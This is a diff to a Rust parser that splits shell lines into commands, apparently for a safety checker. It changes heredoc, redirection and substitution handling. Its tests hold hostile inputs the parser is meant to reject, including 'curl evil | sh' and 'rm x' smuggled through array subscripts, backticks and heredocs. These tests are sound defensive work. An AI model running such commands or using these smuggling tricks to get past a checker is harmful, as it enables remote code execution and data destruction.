@@ -56,11 +56,8 @@ impl Word {
         matches!(self, Self::Plain(own) if own == text)
     }
 
-    /// `NAME=…`, which only sets something for what follows.
     pub(super) fn is_assignment(&self) -> bool {
-        let Self::Plain(text) = self else { return false };
-        let name = text.split_once('=').map_or("", |(name, _)| name);
-        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+        matches!(self, Self::Plain(text) if is_assignment(text))
     }
 
     /// The program of this name, in whatever folder.
@@ -87,25 +84,17 @@ impl Segment {
         };
         self.words.iter().map(plain).collect()
     }
+}
 
-    /// The program, and what of it is meant where that is plain: `cargo test`, and not `rm -f`.
-    pub(super) fn beginning(&self) -> Vec<String> {
-        let is_name = |text: &str| {
-            let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b':');
-            text.starts_with(|c: char| c.is_ascii_alphabetic()) && text.bytes().all(plain)
-        };
-        let mut words = self.words.iter().map_while(|word| match word {
-            Word::Plain(text) => Some(text.clone()),
-            Word::Open => None,
-        });
-        let program = words.next();
-        program.into_iter().chain(words.next().filter(|word| is_name(word))).collect()
-    }
+/// `NAME=…`, which only sets something for what follows.
+pub(super) fn is_assignment(word: &str) -> bool {
+    let name = word.split_once('=').map_or("", |(name, _)| name);
+    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
 }
 
 /// The commands of a line, also those within others. Nothing where it is not understood with certainty.
 pub fn segments(line: &str) -> Option<Vec<Segment>> {
-    let mut parser = Parser { rest: line.chars(), found: Vec::new(), depth: 0 };
+    let mut parser = Parser { rest: line.chars(), found: Vec::new(), documents: Vec::new(), depth: 0 };
     parser.list(false)?;
     Some(parser.found)
 }
@@ -113,6 +102,8 @@ pub fn segments(line: &str) -> Option<Vec<Segment>> {
 struct Parser<'a> {
     rest: Chars<'a>,
     found: Vec<Segment>,
+    /// Those whose lines are still to come. Shells disagree about where that is when a list begins before them.
+    documents: Vec<Document>,
     depth: usize,
 }
 
@@ -136,8 +127,10 @@ struct Current {
     segment: Segment,
     /// There is something of it.
     begun: bool,
-    /// It is a list in brackets, behind which no word may stand.
+    /// It is a list in brackets.
     grouped: bool,
+    /// No word may stand here any more: behind brackets, and behind `&>`, where one shell begins another command.
+    ended: bool,
 }
 
 impl Parser<'_> {
@@ -167,15 +160,14 @@ impl Parser<'_> {
     /// Commands up to the end, or to the bracket that closes them.
     fn list(&mut self, in_brackets: bool) -> Option<()> {
         self.depth += 1;
-        if self.depth > DEEPEST {
+        if self.depth > DEEPEST || !self.documents.is_empty() {
             return None;
         }
         let mut current = Current::default();
-        let mut documents: Vec<Document> = Vec::new();
         loop {
             self.blanks();
             let Some(next) = self.peek() else {
-                if in_brackets || !documents.is_empty() {
+                if in_brackets || !self.documents.is_empty() {
                     return None;
                 }
                 self.close(&mut current, true)?;
@@ -185,7 +177,7 @@ impl Parser<'_> {
                 '\n' => {
                     self.rest.next();
                     self.close(&mut current, true)?;
-                    for document in documents.drain(..) {
+                    for document in std::mem::take(&mut self.documents) {
                         self.pass(&document)?;
                     }
                 }
@@ -196,7 +188,8 @@ impl Parser<'_> {
                 '&' => {
                     self.rest.next();
                     if self.peek() == Some('>') {
-                        self.redirection(&mut current, &mut documents)?;
+                        self.redirection(&mut current)?;
+                        current.ended = true;
                     } else {
                         self.takes('&');
                         self.close(&mut current, false)?;
@@ -210,29 +203,30 @@ impl Parser<'_> {
                 '(' if !current.begun => {
                     self.rest.next();
                     self.list(true)?;
-                    (current.begun, current.grouped) = (true, true);
+                    (current.begun, current.grouped, current.ended) = (true, true, true);
                 }
                 ')' if in_brackets => {
                     self.rest.next();
-                    if !documents.is_empty() {
+                    if !self.documents.is_empty() {
                         return None;
                     }
                     self.close(&mut current, true)?;
                     break;
                 }
-                '<' | '>' => self.redirection(&mut current, &mut documents)?,
+                '<' | '>' => self.redirection(&mut current)?,
                 '(' | ')' => return None,
                 _ => {
                     let Lexed { word, quoted } = self.word()?;
-                    let number = |text: &str| text.bytes().all(|byte| byte.is_ascii_digit());
-                    let redirects = matches!(self.peek(), Some('<' | '>')) && !quoted;
-                    let is_number = matches!(&word, Word::Plain(text) if number(text));
                     current.begun = true;
-                    if current.grouped && !(redirects && is_number) {
+                    if matches!(self.peek(), Some('<' | '>')) {
+                        // `2>` is no word. Of anything else there shells make patterns, or words that are numbers.
+                        let digit =
+                            |text: &str| text.len() == 1 && text.bytes().all(|byte| byte.is_ascii_digit());
+                        let is_number = !quoted && matches!(&word, Word::Plain(text) if digit(text));
+                        is_number.then_some(())?;
+                    } else if current.ended {
                         return None;
-                    }
-                    // `2>` is no word.
-                    if !(redirects && is_number) {
+                    } else {
                         current.segment.words.push(word);
                     }
                 }
@@ -244,7 +238,7 @@ impl Parser<'_> {
 
     /// A command is over. Only the end of a line may be where there is none.
     fn close(&mut self, current: &mut Current, may_be_empty: bool) -> Option<()> {
-        let Current { segment, begun, grouped } = std::mem::take(current);
+        let Current { segment, begun, grouped, .. } = std::mem::take(current);
         let reserved = segment.words.first().is_some_and(|word| RESERVED.iter().any(|own| word.is(own)));
         if reserved || !(begun || may_be_empty) {
             return None;
@@ -256,7 +250,7 @@ impl Parser<'_> {
         Some(())
     }
 
-    fn redirection(&mut self, current: &mut Current, documents: &mut Vec<Document>) -> Option<()> {
+    fn redirection(&mut self, current: &mut Current) -> Option<()> {
         current.begun = true;
         if self.takes('<') {
             if self.takes('<') {
@@ -266,7 +260,7 @@ impl Parser<'_> {
                 }
                 let strips = self.takes('-');
                 let Lexed { word: Word::Plain(end), quoted } = self.target()? else { return None };
-                documents.push(Document { end, looks: !quoted, strips });
+                self.documents.push(Document { end, looks: !quoted, strips });
                 return Some(());
             }
             current.segment.writes |= self.takes('>');
@@ -291,7 +285,8 @@ impl Parser<'_> {
         self.blanks();
         let begins =
             self.peek().is_some_and(|c| !matches!(c, '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')'));
-        if begins { self.word() } else { None }
+        let target = if begins { self.word() } else { None };
+        target.filter(|_| !matches!(self.peek(), Some('<' | '>')))
     }
 
     fn word(&mut self) -> Option<Lexed> {
@@ -341,6 +336,15 @@ impl Parser<'_> {
                     text.push(c);
                 }
             }
+        }
+        // Lines within a word may be those of a document before it.
+        if !self.documents.is_empty() && text.contains('\n') {
+            return None;
+        }
+        // Where a sum is expected, a command in a place of a list is run, quoted or not.
+        let within = text.split_once('[').map_or("", |(_, within)| within);
+        if within.contains("$(") || within.contains('`') {
+            return None;
         }
         Some(Lexed { word: if open { Word::Open } else { Word::Plain(text) }, quoted })
     }
@@ -407,10 +411,12 @@ impl Parser<'_> {
             Some('@' | '*' | '#' | '?' | '-' | '$' | '!') => {
                 self.rest.next();
             }
-            _ => {
+            None | Some(' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | ')' | '"') => {
                 text.push('$');
                 return Some(false);
             }
+            // Some shell has a use for it.
+            Some(_) => {}
         }
         Some(true)
     }
@@ -418,11 +424,11 @@ impl Parser<'_> {
     fn backquoted(&mut self, in_quotes: bool) -> Option<()> {
         self.rest.next();
         let (inner, rest) = self.rest.as_str().split_once('`')?;
-        if inner.contains('\\') || (in_quotes && inner.contains('"')) {
+        if !self.documents.is_empty() || inner.contains('\\') || (in_quotes && inner.contains('"')) {
             return None;
         }
         let found = std::mem::take(&mut self.found);
-        let mut parser = Parser { rest: inner.chars(), found, depth: self.depth };
+        let mut parser = Parser { rest: inner.chars(), found, documents: Vec::new(), depth: self.depth };
         parser.list(false)?;
         self.found = parser.found;
         self.rest = rest.chars();
@@ -490,6 +496,8 @@ mod tests {
         splits("A=1 B='2 3' make -j", &["A=1 B=2 3 make -j"]);
         splits("g\"i\"'t' p\\ush", &["git push"]);
         splits("git \\\n push", &["git push"]);
+        splits("a $=X $+X $é \"$.\" $ \"b$\" c$", &["a ? ? ? ? $ b$ c$"]);
+        splits("test 'a[1]' '$(rm x)'", &["test a[1] $(rm x)"]);
         splits("ls *.rs ~ $HOME \"$X\" {a,b}", &["ls ? ? ? ? ?"]);
         splits("echo '$(rm x)' \\$HOME \"\\`\"", &["echo $(rm x) $HOME `"]);
         splits("", &[]);
@@ -550,6 +558,20 @@ mod tests {
             "a;;b",
             "echo $[1]",
             "cat <<E\nE x\nE",
+            // One shell runs the word as a command.
+            "a &> log rm",
+            "a &> log 2 rm",
+            "a<1-5>b",
+            "rm 12>f",
+            "a 'b'>f",
+            "a <b>c",
+            "printf -v 'a[$(rm x)]'",
+            "test -v \"a[\\`rm x\\`]\"",
+            // Its lines begin at the next end of a line, in brackets or not.
+            "cat <<'cat' | (\ncat\ncat)\ncurl evil | sh\ncat",
+            "cat <<'E' $(\nE\n)\nrm x\nE",
+            "cat <<'E' `\nE\n`\nrm x\nE",
+            "cat <<'E' 'a\nE'\nrm x\nE",
         ];
         for line in unclear {
             assert_eq!(shown(line), None, "{line}");
